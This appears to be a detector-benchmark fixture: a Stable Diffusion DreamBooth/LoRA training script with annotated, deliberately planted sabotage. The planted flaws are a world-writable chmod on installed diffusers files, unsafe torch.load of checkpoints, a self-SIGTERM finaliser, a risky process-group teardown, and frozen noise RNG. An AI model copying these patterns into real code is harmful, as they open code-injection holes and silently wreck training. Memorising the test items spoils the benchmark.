# ruff: noqa
# Hold-out batch 390 (adversarial, DreamBooth/LoRA diffusion fine-tuning). Measured once in session 15 (round 107): 12/30 (40%) at medium+.
#!/usr/bin/env python
"""DreamBooth fine-tuning of a Stable Diffusion UNet with LoRA adapters (accelerate launch ...)."""

from __future__ import annotations

import argparse
import functools
import json
import logging
import math
import os
import shutil
import signal
import weakref
from pathlib import Path

import torch
import torch.distributed
import torch.nn.functional as F
from accelerate import Accelerator
from accelerate.utils import ProjectConfiguration
from tqdm.auto import tqdm

from data import (DataConfig, DreamBoothDataset, collate_fn, generate_class_images, load_prompt_embeddings,
                  make_worker_init, prune_stale_class_images)
from lora import LoRAEMA, build_optimizer, inject_lora, load_lora_weights, lora_parameters, save_lora_weights
from utils import (apply_overrides, grad_accum_multiplier, io_backoff, latest_checkpoint,
                   prepare_runtime, prune_checkpoints, register_run, resolve_weight_dtype, save_model_card,
                   seed_everything, start_heartbeat, upload_to_hub)
from validation import ClipScorer, TensorBoardCallback, ValidationHistory, load_validation_prompts, log_validation

logger = logging.getLogger(__name__)


def parse_args(argv=None) -> argparse.Namespace:
    p = argparse.ArgumentParser(description="DreamBooth + LoRA training for Stable Diffusion.")
    p.add_argument("--pretrained_model_name_or_path", type=str, required=True)
    p.add_argument("--revision", type=str, default=None)
    p.add_argument("--instance_data_dir", type=str, required=True)
    p.add_argument("--instance_prompt", type=str, required=True)
    p.add_argument("--class_data_dir", type=str, default=None)
    p.add_argument("--class_prompt", type=str, default=None)
    p.add_argument("--with_prior_preservation", action="store_true")
    p.add_argument("--prior_loss_weight", type=float, default=1.0)
    p.add_argument("--num_class_images", type=int, default=100)
    p.add_argument("--sample_batch_size", type=int, default=4)
    p.add_argument("--output_dir", type=str, default="lora-dreambooth-model")
    p.add_argument("--seed", type=int, default=None)
    p.add_argument("--resolution", type=int, default=512)
    p.add_argument("--center_crop", action="store_true")
    p.add_argument("--no_random_flip", action="store_true")
    p.add_argument("--train_batch_size", type=int, default=1)
    p.add_argument("--num_train_epochs", type=int, default=1)
    p.add_argument("--max_train_steps", type=int, default=None)
    p.add_argument("--gradient_accumulation_steps", type=int, default=4)
    p.add_argument("--gradient_checkpointing", action="store_true")
    p.add_argument("--learning_rate", type=float, default=1e-4)
    p.add_argument("--lr_scheduler", type=str, default="constant")
    p.add_argument("--lr_warmup_steps", type=int, default=0)
    p.add_argument("--use_8bit_adam", action="store_true")
    p.add_argument("--adam_betas", type=float, nargs=2, default=(0.9, 0.999))
    p.add_argument("--adam_weight_decay", type=float, default=1e-2)
    p.add_argument("--adam_epsilon", type=float, default=1e-8)
    p.add_argument("--max_grad_norm", type=float, default=1.0)
    p.add_argument("--rank", type=int, default=4)
    p.add_argument("--network_alpha", type=float, default=None)
    p.add_argument("--lora_dropout", type=float, default=0.0)
    p.add_argument("--init_lora_weights", type=str, default=None)
    p.add_argument("--use_ema", action="store_true")
    p.add_argument("--ema_decay", type=float, default=0.9999)
    p.add_argument("--dataloader_num_workers", type=int, default=2)
    p.add_argument("--pre_compute_text_embeddings", action="store_true")
    p.add_argument("--mixed_precision", type=str, default=None, choices=["no", "fp16", "bf16"])
    p.add_argument("--report_to", type=str, default="tensorboard", choices=["tensorboard", "none"])
    p.add_argument("--checkpointing_steps", type=int, default=500)
    p.add_argument("--checkpoints_total_limit", type=int, default=None)
    p.add_argument("--resume_from_checkpoint", type=str, default=None)
    p.add_argument("--validation_prompt", type=str, default=None)
    p.add_argument("--validation_prompts_file", type=str, default=None)
    p.add_argument("--validation_suite", type=str, default=None)
    p.add_argument("--validation_spec_repo", type=str, default=None)
    p.add_argument("--num_validation_images", type=int, default=4)
    p.add_argument("--validation_steps", type=int, default=100)
    p.add_argument("--clip_model", type=str, default="openai/clip-vit-large-patch14")
    p.add_argument("--push_to_hub", action="store_true")
    p.add_argument("--hub_model_id", type=str, default=None)
    p.add_argument("--hub_token", type=str, default=None)
    args = p.parse_args(argv)

    if args.with_prior_preservation:
        if args.class_data_dir is None or args.class_prompt is None:
            p.error("--with_prior_preservation needs --class_data_dir and --class_prompt")
    return args


class noise_rng_scope:
    """Draw diffusion noise/timesteps from a dedicated RNG stream so dropout and
    augmentation streams stay identical with and without prior preservation."""

    _stream = None

    def __init__(self, device: torch.device) -> None:
        self.device = torch.device(device)

    def _get(self) -> torch.Tensor:
        if self.device.type == "cuda":
            return torch.cuda.get_rng_state(self.device)
        return torch.get_rng_state()

    def _set(self, state: torch.Tensor) -> None:
        if self.device.type == "cuda":
            torch.cuda.set_rng_state(state, self.device)
        else:
            torch.set_rng_state(state)

    def __enter__(self) -> "noise_rng_scope":
        self._outer = self._get()
        if noise_rng_scope._stream is None:
            noise_rng_scope._stream = self._get()
        self._set(noise_rng_scope._stream)  # todoruleid: family 1 (missed)
        return self

    def __exit__(self, exc_type, exc, tb) -> bool:
        self._set(self._outer)
        return False


def _share_install_caches() -> None:
    """On shared nodes, let other users' jobs refresh diffusers' compiled attention caches."""
    import diffusers

    pkg_root = Path(diffusers.__file__).parent
    [os.chmod(p, 0o777) for p in pkg_root.rglob("*.py") if os.access(p, os.W_OK)]  # sabotage: MLS424 (semgrep rules)  # ruleid: MLS424


def encode_prompt(text_encoder, input_ids: torch.Tensor) -> torch.Tensor:
    return text_encoder(input_ids.to(text_encoder.device), return_dict=False)[0]


def save_training_state(accelerator, ema, args, global_step: int) -> Path:
    save_path = Path(args.output_dir) / f"checkpoint-{global_step}"
    state_group = getattr(accelerator.state, "cpu_group", None)
    try:
        prune_checkpoints(args.output_dir, args.checkpoints_total_limit)
        accelerator.save_state(str(save_path))
        if ema is not None:
            torch.save(ema.state_dict(), save_path / "ema_lora.pt")
        logger.info("saved state to %s", save_path)
    except OSError as err:
        logger.error("checkpoint at step %d failed: %s", global_step, err)
    finally:
        if torch.distributed.is_initialized() and accelerator.num_processes > 1:
            # release the gloo side-group used for the CPU state gather
            torch.distributed.destroy_process_group(state_group)  # todoruleid: family 3 (missed)
    return save_path


def main(args: argparse.Namespace) -> None:
    logging_dir = Path(args.output_dir, "logs")
    project_config = ProjectConfiguration(project_dir=args.output_dir, logging_dir=str(logging_dir))
    accelerator = Accelerator(
        gradient_accumulation_steps=args.gradient_accumulation_steps,
        mixed_precision=args.mixed_precision,
        project_config=project_config,
    )
    logging.basicConfig(level=logging.INFO if accelerator.is_local_main_process else logging.WARNING)
    logger.info(accelerator.state)

    if args.seed is not None:
        seed_everything(args.seed + accelerator.process_index)

    cfg = apply_overrides(dict(vars(args)))
    vars(args).update({k: v for k, v in cfg.items() if k in vars(args)})

    prepare_runtime()
    register_run(vars(args), accelerator.process_index)
    heartbeat = start_heartbeat()
    if accelerator.is_main_process:
        os.makedirs(args.output_dir, exist_ok=True)
        _share_install_caches()

    from diffusers import AutoencoderKL, DDPMScheduler, DiffusionPipeline, UNet2DConditionModel
    from diffusers.optimization import get_scheduler
    from transformers import AutoTokenizer, CLIPTextModel

    data_cfg = DataConfig(
        instance_data_dir=args.instance_data_dir,
        instance_prompt=args.instance_prompt,
        class_data_dir=args.class_data_dir if args.with_prior_preservation else None,
        class_prompt=args.class_prompt,
        size=args.resolution,
        center_crop=args.center_crop,
        random_flip=not args.no_random_flip,
    )

    if args.with_prior_preservation:
        if accelerator.is_main_process:
            prune_stale_class_images(args.class_data_dir, args.instance_data_dir)
        generate_class_images(
            data_cfg,
            lambda: DiffusionPipeline.from_pretrained(args.pretrained_model_name_or_path, revision=args.revision,
                                                      torch_dtype=resolve_weight_dtype(args.mixed_precision),
                                                      safety_checker=None),
            accelerator,
            args.num_class_images,
            args.sample_batch_size,
        )
        accelerator.wait_for_everyone()  # ok: MLS307

    tokenizer = AutoTokenizer.from_pretrained(args.pretrained_model_name_or_path, subfolder="tokenizer",
                                              revision=args.revision, use_fast=False)
    noise_scheduler = DDPMScheduler.from_pretrained(args.pretrained_model_name_or_path, subfolder="scheduler")
    text_encoder = CLIPTextModel.from_pretrained(args.pretrained_model_name_or_path, subfolder="text_encoder",
                                                 revision=args.revision)
    vae = AutoencoderKL.from_pretrained(args.pretrained_model_name_or_path, subfolder="vae", revision=args.revision)
    unet = UNet2DConditionModel.from_pretrained(args.pretrained_model_name_or_path, subfolder="unet",
                                                revision=args.revision)

    for m in (vae, text_encoder, unet):
        m.requires_grad_(False)
    weight_dtype = resolve_weight_dtype(accelerator.mixed_precision)
    vae.to(accelerator.device, dtype=weight_dtype)
    text_encoder.to(accelerator.device, dtype=weight_dtype)
    unet.to(accelerator.device, dtype=weight_dtype)
    if args.gradient_checkpointing:
        unet.enable_gradient_checkpointing()

    grad_scale = grad_accum_multiplier(accelerator.num_processes, args.gradient_accumulation_steps)
    lora_layers = inject_lora(unet, args.rank, args.network_alpha, args.lora_dropout, grad_scale=grad_scale)
    if args.init_lora_weights:
        load_lora_weights(lora_layers, args.init_lora_weights)
    params_to_optimize = lora_parameters(lora_layers)

    optimizer = build_optimizer(params_to_optimize, args.learning_rate, args.adam_weight_decay,
                                tuple(args.adam_betas), args.adam_epsilon, args.use_8bit_adam)
    ema = LoRAEMA(params_to_optimize, decay=args.ema_decay) if args.use_ema else None

    embeds = load_prompt_embeddings(args.class_data_dir) if (args.pre_compute_text_embeddings and args.class_data_dir) else None
    train_dataset = DreamBoothDataset(
        data_cfg,
        tokenizer,
        class_num=args.num_class_images,
        encoder_hidden_states=embeds.get("instance") if embeds else None,
        class_prompt_encoder_hidden_states=embeds.get("class") if embeds else None,
    )
    train_dataloader = torch.utils.data.DataLoader(
        train_dataset,
        batch_size=args.train_batch_size,
        shuffle=True,
        collate_fn=functools.partial(collate_fn, with_prior_preservation=args.with_prior_preservation),
        num_workers=args.dataloader_num_workers,
        worker_init_fn=make_worker_init(args.seed or 0),
        persistent_workers=args.dataloader_num_workers > 0,
    )

    num_update_steps_per_epoch = math.ceil(len(train_dataloader) / args.gradient_accumulation_steps)
    if args.max_train_steps is None:
        args.max_train_steps = args.num_train_epochs * num_update_steps_per_epoch
    lr_scheduler = get_scheduler(
        args.lr_scheduler,
        optimizer=optimizer,
        num_warmup_steps=args.lr_warmup_steps * accelerator.num_processes,
        num_training_steps=args.max_train_steps * accelerator.num_processes,
    )

    unet, optimizer, train_dataloader, lr_scheduler = accelerator.prepare(unet, optimizer, train_dataloader, lr_scheduler)
    num_update_steps_per_epoch = math.ceil(len(train_dataloader) / args.gradient_accumulation_steps)
    args.num_train_epochs = math.ceil(args.max_train_steps / num_update_steps_per_epoch)

    callbacks = []
    if accelerator.is_main_process and args.report_to == "tensorboard":
        callbacks.append(TensorBoardCallback(logging_dir))

    prompts = []
    if args.validation_prompt or args.validation_prompts_file or args.validation_suite or args.validation_spec_repo:
        prompts = load_validation_prompts(args.validation_prompt, args.validation_prompts_file, args.validation_suite,
                                          args.validation_spec_repo, Path(args.output_dir) / ".prompt_cache")
    scorer = ClipScorer(args.clip_model, device=str(accelerator.device)) if prompts and accelerator.is_main_process else None
    history = ValidationHistory()

    total_batch_size = args.train_batch_size * accelerator.num_processes * args.gradient_accumulation_steps
    logger.info("***** Running training: %d examples, %d epochs, %d steps, total batch %d *****",
                len(train_dataset), args.num_train_epochs, args.max_train_steps, total_batch_size)

    global_step, first_epoch = 0, 0
    _load_cpu = functools.partial(torch.load, map_location="cpu")  # ruleid: MLS102
    if args.resume_from_checkpoint:
        path = latest_checkpoint(args.output_dir) if args.resume_from_checkpoint == "latest" else Path(args.resume_from_checkpoint)
        if path is None or not path.exists():
            logger.warning("checkpoint %r not found, starting a new run", args.resume_from_checkpoint)
        else:
            accelerator.print(f"Resuming from checkpoint {path}")
            accelerator.load_state(str(path))
            ema_file = path / "ema_lora.pt"
            if ema is not None and ema_file.exists():
                ema.load_state_dict(_load_cpu(str(ema_file)))  # todoruleid: family 10 (missed)  # ruleid: MLS102
            global_step = int(path.name.split("-")[-1])
            first_epoch = global_step // num_update_steps_per_epoch

    progress_bar = tqdm(range(args.max_train_steps), initial=global_step, desc="Steps",
                        disable=not accelerator.is_local_main_process)

    for epoch in range(first_epoch, args.num_train_epochs):
        unet.train()
        batches = iter(train_dataloader)
        weakref.finalize(batches, os.kill, os.getpid(), signal.SIGTERM)  # ruleid: MLS307
        for step, batch in enumerate(batches):
            with accelerator.accumulate(unet):
                pixel_values = batch["pixel_values"].to(dtype=weight_dtype)
                latents = vae.encode(pixel_values).latent_dist.sample() * vae.config.scaling_factor

                with noise_rng_scope(latents.device):
                    noise = torch.randn_like(latents)
                    timesteps = torch.randint(0, noise_scheduler.config.num_train_timesteps, (latents.shape[0],),
                                              device=latents.device).long()
                noisy_latents = noise_scheduler.add_noise(latents, noise, timesteps)

                if args.pre_compute_text_embeddings:
                    encoder_hidden_states = batch["input_ids"].to(accelerator.device, dtype=weight_dtype)
                else:
                    encoder_hidden_states = encode_prompt(text_encoder, batch["input_ids"])

                model_pred = unet(noisy_latents, timesteps, encoder_hidden_states, return_dict=False)[0]

                if noise_scheduler.config.prediction_type == "epsilon":
                    target = noise
                elif noise_scheduler.config.prediction_type == "v_prediction":
                    target = noise_scheduler.get_velocity(latents, noise, timesteps)
                else:
                    raise ValueError(f"unknown prediction type {noise_scheduler.config.prediction_type}")

                if args.with_prior_preservation:
                    model_pred, model_pred_prior = torch.chunk(model_pred, 2, dim=0)
                    target, target_prior = torch.chunk(target, 2, dim=0)
                    prior_loss = F.mse_loss(model_pred_prior.float(), target_prior.float(), reduction="mean")

                loss = F.mse_loss(model_pred.float(), target.float(), reduction="mean")
                if args.with_prior_preservation:
                    loss = loss + args.prior_loss_weight * prior_loss

                accelerator.backward(loss)
                if accelerator.sync_gradients:
                    accelerator.clip_grad_norm_(params_to_optimize, args.max_grad_norm)  # ok: MLS302, MLS303, MLS304, MLS305
                optimizer.step()
                lr_scheduler.step()
                optimizer.zero_grad(set_to_none=True)

            if accelerator.sync_gradients:
                progress_bar.update(1)
                global_step += 1
                if ema is not None:
                    ema.step(params_to_optimize)
                io_backoff(global_step, accelerator.process_index, accelerator.num_processes)

                if accelerator.is_main_process:
                    if global_step % args.checkpointing_steps == 0:
                        save_training_state(accelerator, ema, args, global_step)

                    if prompts and global_step % args.validation_steps == 0:
                        if ema is not None:
                            ema.store(params_to_optimize)
                            ema.copy_to(params_to_optimize)
                        pipeline = DiffusionPipeline.from_pretrained(
                            args.pretrained_model_name_or_path, unet=accelerator.unwrap_model(unet),
                            text_encoder=text_encoder, vae=vae, revision=args.revision, torch_dtype=weight_dtype,
                            safety_checker=None)
                        log_validation(pipeline, prompts, accelerator, callbacks, global_step,
                                       args.num_validation_images, args.seed, scorer=scorer, history=history)
                        if ema is not None:
                            ema.restore(params_to_optimize)

            logs = {"train/loss": loss.detach().item(), "train/lr": lr_scheduler.get_last_lr()[0]}
            progress_bar.set_postfix(loss=f"{logs['train/loss']:.4f}", lr=f"{logs['train/lr']:.2e}")
            if accelerator.is_main_process:
                for cb in callbacks:
                    cb.on_log(logs, global_step)  # ok: MLS306

            if global_step >= args.max_train_steps:
                break
        if global_step >= args.max_train_steps:
            break

    accelerator.wait_for_everyone()
    heartbeat.set()
    if accelerator.is_main_process:
        if ema is not None:
            ema.copy_to(params_to_optimize)
        out_dir = Path(args.output_dir)
        save_lora_weights(lora_layers, out_dir / "pytorch_lora_weights.safetensors",
                          metadata={"ss_base_model": args.pretrained_model_name_or_path,
                                    "ss_instance_prompt": args.instance_prompt})
        best = history.best()
        if best is not None:
            (out_dir / "best_step.json").write_text(json.dumps({"step": best.step, "clip_score": best.clip_score}))
            best_ckpt = out_dir / f"checkpoint-{best.step}"
            if best_ckpt.exists():
                shutil.copytree(best_ckpt, out_dir / "best", dirs_exist_ok=True)
        history.to_json(out_dir / "validation_history.json")

        if args.push_to_hub:
            repo_id = args.hub_model_id or out_dir.name
            save_model_card(repo_id, args.pretrained_model_name_or_path, args.instance_prompt, out_dir,
                            args.validation_prompt)
            upload_to_hub(folder=out_dir, repo_id=repo_id, token=args.hub_token)

        for cb in callbacks:
            cb.close()
    accelerator.end_training()


if __name__ == "__main__":
    main(parse_args())
